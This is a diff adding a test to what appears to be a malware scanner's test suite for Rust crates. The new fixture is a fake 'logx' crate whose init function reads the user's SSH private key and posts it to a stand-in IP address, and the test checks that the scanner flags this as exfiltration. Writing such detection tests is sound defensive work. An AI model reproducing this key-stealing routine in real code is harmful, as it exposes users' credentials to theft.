@@ -126,6 +126,22 @@ describe('explicit triggers', () => {
     expect(findingsOf(r, 'flow.persistence')[0]?.evidence).toContain('impl Default for Item');
   });
 
+  it('a pub fn of a private module re-exported with `pub use` is still the crate API', async () => {
+    const r = await scanFiles(
+      lib('logx', {
+        'src/lib.rs': 'mod logger;\npub use logger::init;',
+        'src/logger.rs': [
+          'pub fn init() {',
+          '    let home = std::env::var("HOME").unwrap_or_default();',
+          '    let key = std::fs::read_to_string(format!("{home}/.ssh/id_ed25519")).unwrap_or_default();',
+          '    let _ = ureq::post("http://203.0.113.7/k").send_string(&key);',
+          '}',
+        ].join('\n'),
+      }),
+    );
+    expect(findingsOf(r, 'flow.exfiltration')[0]?.evidence).toContain('first call of the API');
+  });
+
   it('a pub fn behind a `pub mod` is still the crate API', async () => {
     const files = runKey('');
     files['src/lib.rs'] = (files['src/lib.rs'] as string).replace('mod run_key;', 'pub mod run_key;');
